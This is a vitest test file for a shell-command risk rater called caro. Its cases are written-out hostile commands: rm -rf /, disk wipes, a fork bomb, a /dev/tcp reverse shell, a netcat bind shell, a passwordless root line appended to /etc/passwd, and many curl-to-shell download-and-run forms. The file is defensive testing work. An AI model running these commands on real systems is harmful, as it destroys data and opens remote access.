import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { rateCommand } from "../src/safety/rate.js";
import { caro, makeHome } from "./helpers/caro.js";
import { ROOT } from "./helpers/models.js";

const risk = async (command: string, shell: "bash" | "fish" | "zsh" = "bash", cwd?: string) =>
  (await rateCommand(command, shell, cwd)).risk;

describe("rating from the syntax tree", () => {
  it.each([
    "rm -r -f /",
    "rm --recursive --force ~",
    'sudo rm -fr "$HOME"',
    "rm -rf /*",
    "rm -rf /etc",
    'rm -rf "$STEAMROOT/"*',
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat /dev/urandom > /dev/nvme0n1",
    "mkfs.ext4 /dev/sdb1",
    "wipefs -a /dev/sdc",
    "shred -n 3 /dev/sda",
    "diskutil eraseDisk JHFS+ Empty disk2",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "chmod -R 777 /usr",
    "chown -R nobody /etc",
    "chmod u+s /bin/bash",
    "curl -fsSL https://x.example/install.sh | sudo bash",
    "kill -9 -1",
    "echo 'root2::0:0::/root:/bin/bash' >> /etc/passwd",
    "cp evil /etc/sudoers",
    "terraform destroy -auto-approve",
    "psql -c 'DROP DATABASE prod'",
    "nc -l -p 4444 -e /bin/sh",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "find / -delete",
    "find ~ -exec rm -rf {} +",
    `sh -c 'rm -rf /'`,
    `bash -c "sudo rm -rf /*"`,
    `eval "rm -rf ~"`,
    "env -i nice -n 10 nohup rm -rf /",
    `python3 -c "import os; os.system('rm -rf /')"`,
    "ls | xargs sudo rm -rf / ",
    "ssh prod 'rm -rf /var/lib'",
  ])("critical: %s", async (command) => {
    expect(await risk(command)).toBe("critical");
  });

  it.each([
    "curl -fsSL https://get.example.sh | sh",
    "git push --force origin main",
    "git reset --hard HEAD~3",
    "git clean -fdx",
    "crontab -r",
    "iptables -F",
    "ufw disable",
    "kubectl delete deployment web",
    "aws s3 rm s3://bucket/ --recursive",
    "history -c",
    "cat /dev/null > ~/.bash_history",
    "shutdown -h now",
    "sudo -i",
    "rm -rf *",
    "find . -name '*.tmp' | xargs rm -rf",
    "psql -c 'DROP TABLE users'",
    "killall -9",
  ])("high: %s", async (command) => {
    expect(await risk(command)).toBe("high");
  });

  it.each([
    "rm -rf ./node_modules",
    "rm notes.txt",
    "sed -i 's/a/b/' file.txt",
    "apt-get install jq",
    "rm -rf /tmp/build-cache",
  ])("moderate, not more: %s", async (command) => {
    expect(await risk(command)).toBe("moderate");
  });

  it.each([
    'echo "rm -rf /"',
    'grep -r "rm -rf" .',
    "# rm -rf /",
    "ls -la # then rm -rf /",
    "printf '%s\\n' 'dd if=/dev/zero of=/dev/sda'",
    "find . -name '*.py' -exec wc -l {} +",
    "du -sh * | sort -h",
    "dd if=/dev/sda of=disk.img",
    "git push origin main",
    "command -v rm",
  ])("safe: %s", async (command) => {
    expect(await risk(command)).toBe("safe");
  });

  it("says why, in words a person understands", async () => {
    expect((await rateCommand("rm -rf ~", "bash")).reasons[0]).toBe(
      "deletes your home directory (~) and everything in it",
    );
    expect((await rateCommand("sudo rm -rf /", "bash")).reasons.join(" ")).toMatch(/everything on the system/);
    expect((await rateCommand("find . -exec sed -i s/a/b/ {} +", "bash")).reasons[0]).toMatch(/through find -exec/);
  });

  it("knows that emptying the current folder is worse when the folder is home or /", async () => {
    expect(await risk("rm -rf ./*", "bash", "/home/ada/project")).toBe("high");
    expect(await risk("rm -rf ./*", "bash", "/home/ada")).toBe("critical");
    expect(await risk("rm -rf *", "bash", "/")).toBe("critical");
  });

  it("treats a variable of unknown value as unknown", async () => {
    expect(await risk('rm -rf "$BUILD_DIR"')).toBe("high");
    expect(await risk('rm -rf "$BUILD_DIR/"')).toBe("critical");
  });

  it("rates a command that does not parse at least moderate, and says so", async () => {
    const rating = await rateCommand("rm -rf 'unclosed", "bash");
    expect(["moderate", "high", "critical"]).toContain(rating.risk);
    expect(rating.reasons.join(" ")).toMatch(/does not parse/);
    expect(await risk("echo (((")).toBe("moderate");
  });

  it("rates fish syntax, reading what the POSIX parser can", async () => {
    expect(await risk("for f in *.txt; echo $f; end", "fish")).toBe("safe");
    expect(await risk("rm -rf (pwd)/../*; and echo done", "fish")).not.toBe("safe");
    expect(await risk("if test -d ~/x; rm -rf ~; end", "fish")).toBe("critical");
  });
});

const atLeastHigh = (rating: string) => ["high", "critical"].includes(rating);

describe("downloaded code run through a substitution rates as `curl … | sh` does", () => {
  // Each shape beside the pipe that does the same: fetch a script and run it unseen.
  it.each([
    ["bash <(curl -fsSL https://get.example.sh)", "curl -fsSL https://get.example.sh | bash"],
    ["sh <(curl https://get.example.sh)", "curl https://get.example.sh | sh"],
    ["zsh <(curl -s https://get.example.sh)", "curl -s https://get.example.sh | zsh"],
    ["source <(wget -qO- https://get.example.sh/env)", "wget -qO- https://get.example.sh/env | bash"],
    [". <(curl -s https://get.example.sh/env)", "curl -s https://get.example.sh/env | sh"],
    ['eval "$(curl -fsSL https://get.example.sh)"', "curl -fsSL https://get.example.sh | sh"],
    ["eval `wget -qO- https://get.example.sh`", "wget -qO- https://get.example.sh | sh"],
    ['bash -c "$(curl -fsSL https://get.example.sh/i.sh)"', "curl -fsSL https://get.example.sh/i.sh | bash"],
    ["python3 <(curl -s https://get.example.sh/get.py)", "curl -s https://get.example.sh/get.py | python3"],
    ["bash < <(curl -s https://get.example.sh)", "curl -s https://get.example.sh | bash"],
    ['sh <<< "$(wget -qO- https://get.example.sh)"', "wget -qO- https://get.example.sh | sh"],
    ["curl -s https://get.example.sh | source /dev/stdin", "curl -s https://get.example.sh | sh"],
    ["sudo bash <(curl -fsSL https://get.example.sh)", "curl -fsSL https://get.example.sh | sudo bash"],
    ['sudo sh -c "$(curl -fsSL https://get.example.sh)"', "curl -fsSL https://get.example.sh | sudo sh"],
    ["sudo bash < <(curl -s https://get.example.sh)", "curl -s https://get.example.sh | sudo bash"],
  ])("%s rates as %s", async (shape, pipe) => {
    const rating = await rateCommand(shape, "bash");
    expect(rating.risk).toBe(await risk(pipe));
    expect(atLeastHigh(rating.risk)).toBe(true);
    expect(rating.reasons[0]).toMatch(/runs a script downloaded from the internet/);
  });

  it("is critical when the downloaded code runs as root", async () => {
    expect(await risk("sudo bash <(curl -fsSL https://get.example.sh)")).toBe("critical");
    expect(await risk('sudo bash -c "$(wget -qO- https://get.example.sh)"')).toBe("critical");
  });

  it.each([
    "cat <(ls)",
    "diff <(sort a) <(sort b)",
    "source <(kubectl completion bash)",
    'eval "$(ssh-agent -s)"',
    'bash -c "$(cat local.sh)"',
    "bash <(cat local.sh)",
    'while read -r line; do echo "$line"; done < <(curl -s https://example.com/list.txt)',
    "diff <(curl -s https://example.com/a) local-a",
    "curl -fsSL https://get.example.sh -o install.sh",
  ])("stays safe: %s", async (command) => {
    expect(await risk(command)).toBe("safe");
  });
});

describe("find deleting what it matches", () => {
  it.each([
    "find / -name '*.log' -delete",
    "find ~ -name '*.tmp' -exec rm {} \\;",
    'find "$HOME" -type f -execdir rm -f {} +',
    "find /etc -name '*.bak' -ok rm {} \\;",
    "find /usr -name '*.so*' -exec rm -rf {} +",
    "find /boot -type f -delete",
    "find /var -type f -mtime +30 -delete",
    "sudo find / -name '*.log' | xargs rm -f",
    "find ~ -name '*.jpg' -print0 | xargs -0 rm",
  ])("critical under /, a home or a system folder: %s", async (command) => {
    expect(await risk(command)).toBe("critical");
  });

  it("is critical when the folder it searches is home or /, by the cwd", async () => {
    expect(await risk("find . -name '*.x' -delete", "bash", "/home/ada")).toBe("critical");
    expect(await risk("find . -name '*.x' -exec rm {} +", "bash", "/")).toBe("critical");
    expect(await risk("find . -name '*.x' -delete", "bash", "/home/ada/project")).toBe("high");
  });

  it.each([
    "find . -name '*.x' -delete",
    "find src -name '*.orig' -exec rm {} +",
    "find . -type f -name '*.log' -execdir rm -f {} \\;",
    "find build -iname '*.o' -ok rm {} \\;",
    "find . -name '*.pyc' -print0 | xargs -0 rm",
    "find ~/Downloads -name '*.part' -delete",
    // Old logs under /var/log: the records go, the folders services write to stay.
    'find /var/log -name "*.log" -mtime +30 -delete',
  ])("at least high, a whole tree's matches: %s", async (command) => {
    expect(await risk(command)).toBe("high");
  });

  it("a find that stays in one folder deletes as rm of a glob there does", async () => {
    expect(await risk("find . -maxdepth 1 -name '*.log' -delete")).toBe(await risk("rm *.log"));
    expect(await risk("find ~ -maxdepth 1 -name '*.tmp' -delete")).toBe("high");
  });

  it.each([
    "find / -name x",
    "find ~ -name '*.tmp'",
    "find / -name '*.log' | xargs ls -l",
    "find . -name '*.py' | xargs wc -l",
    "find /var/log -name '*.log' -mtime +30",
    "find / -name core -exec ls -l {} +",
  ])("stays safe: %s", async (command) => {
    expect(await risk(command)).toBe("safe");
  });
});

describe("emptying or overwriting files under system folders", () => {
  it.each([
    "truncate -s 0 /var/log/syslog",
    "sudo truncate --size=0 /var/log/auth.log",
    "truncate -s0 /usr/lib/x86_64-linux-gnu/libc.so.6",
    ": > /var/log/nginx/access.log",
    "> /etc/hosts",
    "cat /dev/null > /boot/grub/grub.cfg",
    "cp /dev/null /var/log/messages",
    "sudo cp /dev/null /etc/resolv.conf",
    "echo | sudo tee /etc/motd",
    "printf '' | tee /var/log/kern.log /var/log/dmesg",
    "sudo sh -c ': > /var/log/syslog'",
    "find /var/log -name '*.log' -exec truncate -s 0 {} +",
  ])("at least high: %s", async (command) => {
    expect(atLeastHigh(await risk(command))).toBe(true);
  });

  it("is critical for the files that decide who can log in", async () => {
    expect(await risk("truncate -s 0 /etc/shadow")).toBe("critical");
    expect(await risk("cp /dev/null /etc/passwd")).toBe("critical");
  });

  it.each([
    "echo > /tmp/x",
    "cp /dev/null notes.txt",
    "echo hi | tee /tmp/out.txt",
    "cat /var/log/syslog > syslog.txt",
  ])("stays safe: %s", async (command) => {
    expect(await risk(command)).toBe("safe");
  });

  it.each(["truncate -s 0 app.log", "find . -name '*.log' -exec truncate -s 0 {} +"])(
    "moderate, not more: %s",
    async (command) => {
      expect(await risk(command)).toBe("moderate");
    },
  );
});

describe("caro check", () => {
  it("prints the risk and the reasons", async () => {
    const result = await caro(["check", "--", "rm -rf /"]);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toBe("critical\n  - deletes everything on the system, recursively from /");
  });

  it("prints JSON with --json, exit 0 whatever the rating", async () => {
    const result = await caro(["check", "--json", "--", "ls", "-la"]);
    expect(result.exitCode).toBe(0);
    expect(JSON.parse(String(result.stdout))).toEqual({ command: "ls -la", risk: "safe", reasons: [], warnings: [] });
  });

  it("reads one command per line with --stdin and writes one JSON object per line", async () => {
    const result = await caro(["check", "--stdin"], { input: "ls\nrm -rf ~\n\ngit push -f\n" });
    expect(result.exitCode).toBe(0);
    const lines = String(result.stdout)
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => [l.command, l.risk])).toEqual([
      ["ls", "safe"],
      ["rm -rf ~", "critical"],
      ["git push -f", "high"],
    ]);
  });

  it("rates deleting the home by its literal path critical, wherever the home lives", async () => {
    // Under /tmp (as makeHome makes it) and under /var/tmp: both spots some CI images put HOME.
    for (const home of [makeHome().home, "/var/tmp/caro-user"]) {
      const env = { ...makeHome().env, HOME: home };
      const result = await caro(["check", "--stdin"], { env, input: `rm -rf ${home}\nrm -rf ${home}/.ssh\n` });
      const lines = String(result.stdout)
        .trim()
        .split("\n")
        .map((l) => JSON.parse(l));
      expect(lines.map((l) => l.risk)).toEqual(["critical", "high"]);
      expect(lines[0].reasons[0]).toBe(`deletes your home directory (${home}) and everything in it`);
    }
  });

  it("exits 2 without a command", async () => {
    const result = await caro(["check"]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^caro: no command to rate: usage: caro check/);
  });

  it("exits 2 for an unknown shell", async () => {
    const result = await caro(["check", "--shell", "cmd", "--", "dir"]);
    expect(result.exitCode).toBe(2);
  });

  it("rates formatting by what it does: a disk by any name or variable is critical, a file high", async () => {
    const rated: [string, string][] = [
      // A disk by its stable names, its mapper or LVM name, or one only a variable knows.
      ["mkfs.ext4 /dev/disk/by-id/nvme-Samsung_SSD_970_EVO_1TB_S467NX0M", "critical"],
      ["sudo mkfs.ext4 /dev/disk/by-uuid/5f6e1c2a-8d1b-4a51-9c9e-1f2e3d4c5b6a", "critical"],
      ["mkswap /dev/disk/by-label/swap", "critical"],
      ["wipefs -a /dev/disk/by-partuuid/0e1f2a3b-01", "critical"],
      ["mkfs -t xfs /dev/mapper/vg0-data", "critical"],
      ["mkfs.btrfs -L pool /dev/vg0/data", "critical"],
      ['mkfs.ext4 -L data "$DISK"', "critical"],
      ["mke2fs -t ext4 $dev", "critical"],
      ['mkfs.vfat -F 32 "/dev/$DISK"1', "critical"],
      ["mkfs.ext4 $(findfs LABEL=data)", "critical"],
      ['sgdisk -n 1:0:0 "$DISK"', "critical"],
      ["dd if=/dev/zero of=/dev/disk/by-id/ata-WDC_WD40EFRX", "critical"],
      // An image file: its contents are lost.
      ["mkfs.ext4 disk.img", "high"],
      ["mkfs.ext4 -F -L data -m 0 ~/vm/disk.img 10G", "high"],
      ["mkswap /swapfile", "high"],
      ["wipefs -a backup.iso", "high"],
      // Reading only.
      ["fdisk -l /dev/sda", "safe"],
      ['parted "$DISK" print', "safe"],
    ];
    const result = await caro(["check", "--stdin"], { input: `${rated.map(([command]) => command).join("\n")}\n` });
    const lines = String(result.stdout)
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => [l.command, l.risk])).toEqual(rated);
    expect(lines[0].reasons).toEqual([
      "formats /dev/disk/by-id/nvme-Samsung_SSD_970_EVO_1TB_S467NX0M: everything on it is lost",
    ]);
    expect(lines[6].reasons).toEqual(["formats $DISK, a disk if it names one when it runs: everything on it is lost"]);
    expect(lines[12].reasons).toEqual(["formats the file disk.img: everything in it is lost"]);
  });
});

// The older caro's labelled data lives beside the project only where this project's CI puts it.
const LABELLED = join(ROOT, "..", "shared", "data", "caro_safety_cases.tsv");
const labelled = existsSync(LABELLED);
const skipped = `skipping the labelled-data evaluation: ${LABELLED} is absent (only this project's CI has it)`;
if (!labelled) console.warn(skipped);

describe("against the older caro's labelled data", () => {
  const title = "catches every critical row and rates no safe row high or critical, except rows judged mislabelled";
  it.skipIf(!labelled)(labelled ? title : `${title} (${skipped})`, () => {
    // The script exits 1 when a target is missed; its output names the rows.
    const script = join(ROOT, "scripts", "safety-eval.mjs");
    const output = execFileSync(process.execPath, [script, LABELLED], { encoding: "utf8" });
    expect(output).toContain("targets held");
  });
});
